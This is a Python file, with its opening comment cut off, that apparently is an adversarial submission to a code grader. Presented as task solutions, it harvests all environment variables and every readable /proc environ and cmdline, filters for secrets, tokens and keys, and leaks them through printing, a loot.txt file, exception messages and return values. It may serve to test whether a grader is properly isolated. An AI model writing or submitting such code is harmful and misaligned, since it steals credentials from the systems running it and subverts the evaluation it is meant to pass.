# on top of the reference: it looks for the grader's secrets (its own environment, every /proc/*/environ and
# cmdline it can read) and tries to get them out: printed, in exception messages, in return values, in files.
import glob
import os

LOOT = [f"{k}={v}" for k, v in os.environ.items()]
for _path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    try:
        with open(_path, "rb") as _f:
            LOOT += [part.decode(errors="replace") for part in _f.read().split(b"\0") if part]
    except OSError:
        pass
_secrets = [item for item in LOOT if "SECRET" in item or "TOKEN" in item or "KEY" in item]
print("loot:", LOOT)
for _place in (".", os.path.expanduser("~")):
    try:
        with open(os.path.join(_place, "loot.txt"), "w") as _f:
            _f.write("\n".join(LOOT))
    except OSError:
        pass


def edge_kernel():
    raise RuntimeError(f"environment: {sorted(os.environ)}; secrets: {_secrets}")


def receptive_field_region(kernel_sizes, i, j):
    return "\n".join(_secrets) or "no secrets"
